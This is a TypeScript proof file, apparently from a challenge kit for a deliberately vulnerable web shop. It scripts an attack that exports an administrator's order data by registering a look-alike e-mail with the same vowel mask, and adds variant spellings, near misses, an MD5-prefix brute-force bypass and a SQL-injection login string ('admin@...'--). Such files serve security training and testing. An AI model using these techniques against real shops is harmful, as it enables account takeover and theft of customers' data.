import { createHash } from 'node:crypto'
import { addOrderDetails } from '@fruit/challenge-kit/order-details'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import type { ClientResponse } from '@fruit/world/visits/client'
import { challenge } from './challenge.ts'

const PASSWORD = 'a ripe password'
const VOWEL = /[aeiou]/gi

/** Registers an account with a chosen e-mail, logs in and returns the headers of its session. */
async function register(attacker: Attacker, email: string) {
  expectStatus(await attacker.post('/api/Users', { email, password: PASSWORD, passwordRepeat: PASSWORD }), 201)
  return signIn(attacker, email, PASSWORD)
}

async function signIn(attacker: Attacker, email: string, password: string) {
  const login = await attacker.post('/rest/user/login', { email, password })
  expectStatus(login, 200)
  return { headers: { authorization: `Bearer ${login.json().authentication.token}` } }
}

async function exportAs(attacker: Attacker, email: string, body: object = { format: '1' }) {
  const request = await register(attacker, email)
  expectStatus(await attacker.post('/rest/user/data-export', body, request), 200)
}

/** Makes sure that setup requests succeed: a near miss whose setup failed would prove nothing. */
function expectStatus({ status, text }: ClientResponse, expected: number) {
  if (status !== expected) throw new Error(`The shop answered ${status}: ${text}`)
}

/** Orders one item of product 2 as a new customer. */
async function order(attacker: Attacker): Promise<{ orderId: string; email: string }> {
  const { basketId, email } = await attacker.becomeCustomer()
  await attacker.post('/api/BasketItems', { ProductId: 2, BasketId: basketId, quantity: 1 })
  const orderDetails = await addOrderDetails(attacker)
  const placed = await attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
  return { orderId: placed.json().orderConfirmation, email }
}

/** Returns a different address with the same mask. */
const otherVowels = (text: string) => text.replace(VOWEL, (vowel) => (vowel === 'o' ? 'u' : 'o'))

/** Returns the administrator's address, shown as author of a review of product 2. */
async function victim(attacker: Attacker): Promise<string> {
  const { data } = (await attacker.get('/rest/products/2/reviews')).json()
  return data.map(({ author }: { author: string }) => author).find((author: string) => author.startsWith('admin@'))
}

const digits = (email: string) => createHash('md5').update(email).digest('hex').slice(0, 4)

/** Returns another address with the same mask and the same four-digit prefix of order numbers. */
function twinWithSameNumbers(email: string): string {
  const choices = 'aeiouAEIOU*'
  const places = email.match(VOWEL)!.length
  for (let number = 0; number < choices.length ** places; number++) {
    let rest = number
    const twin = email.replace(VOWEL, () => {
      const choice = choices[rest % choices.length]!
      rest = Math.floor(rest / choices.length)
      return choice
    })
    if (twin !== email && digits(twin) === digits(email)) return twin
  }
  throw new Error(`No other address has the mask and the digits of ${email}`)
}

export const proof = prove(challenge, {
  // The tracking page of an order shows the masked e-mail; reviews show full addresses.
  exploit: async (attacker) => {
    await attacker.get(`/rest/track-order/${(await order(attacker)).orderId}`)
    await exportAs(attacker, (await victim(attacker)).replace('i', 'u'))
  },
  spellings: {
    'an e for the a': (attacker) => exportAs(attacker, `edmin@${attacker.domain}`),
    'other vowels throughout': (attacker) => exportAs(attacker, `udmon@${attacker.domain}`),
    'vowels in capitals': (attacker) => exportAs(attacker, `AdmIn@${attacker.domain}`),
    'asterisks, as the page of the order has them': (attacker) => exportAs(attacker, `*dm*n@${attacker.domain}`),
    'other vowels behind the @': (attacker) => exportAs(attacker, `admin@${otherVowels(attacker.domain)}`),
    'without saying in which format': (attacker) => exportAs(attacker, `admon@${attacker.domain}`, {}),
    'in the other format': (attacker) => exportAs(attacker, `adman@${attacker.domain}`, { format: '2' }),
    'the format as a number': (attacker) => exportAs(attacker, `idmin@${attacker.domain}`, { format: 1 }),
    'the twin of a customer who has only just ordered': async (attacker) =>
      exportAs(attacker, otherVowels((await order(attacker)).email)),
    'a twin who looks at the history of orders first': async (attacker) => {
      const twin = await register(attacker, `odmin@${attacker.domain}`)
      expectStatus(await attacker.get('/rest/order-history', twin), 200)
      expectStatus(await attacker.post('/rest/user/data-export', { format: '1' }, twin), 200)
    },
  },
  nearMisses: {
    'the export of one’s own orders': async (attacker) => {
      await order(attacker)
      expectStatus(await attacker.post('/rest/user/data-export', { format: '1' }), 200)
    },
    'the export of an account that has ordered nothing': async (attacker) => {
      await attacker.becomeCustomer()
      expectStatus(await attacker.post('/rest/user/data-export', { format: '1' }), 200)
    },
    'an address with another consonant': (attacker) => exportAs(attacker, `abmin@${attacker.domain}`),
    'an address with a capital consonant': (attacker) => exportAs(attacker, `aDmin@${attacker.domain}`),
    'an address with a letter that only sounds like a vowel': (attacker) =>
      exportAs(attacker, `admyn@${attacker.domain}`),
    'an address with a vowel more': (attacker) => exportAs(attacker, `admiin@${attacker.domain}`),
    'the twin of a customer who has ordered nothing': (attacker) => exportAs(attacker, `jem@${attacker.domain}`),
    'the address of somebody else in the body': (attacker) =>
      exportAs(attacker, `plum@${attacker.domain}`, { format: '1', email: `admin@${attacker.domain}`, UserId: 1 }),
    'a twin who only looks at the history of orders': async (attacker) => {
      const twin = await register(attacker, `admun@${attacker.domain}`)
      expectStatus(await attacker.get('/rest/order-history', twin), 200)
    },
    'a twin who misreads the picture': async (attacker) => {
      const twin = await register(attacker, `admun@${attacker.domain}`)
      await attacker.get('/rest/image-captcha/', twin)
      expectStatus(await attacker.post('/rest/user/data-export', { format: '1', answer: '?????' }, twin), 401)
    },
    'the admin’s own data, by a login that asks for no password': async (attacker) => {
      const admin = await signIn(attacker, `admin@${attacker.domain}'--`, 'x')
      expectStatus(await attacker.post('/rest/user/data-export', {}, admin), 200)
    },
  },
  bypasses: {
    'compare-order-numbers': async (attacker) => exportAs(attacker, twinWithSameNumbers(await victim(attacker))),
  },
})
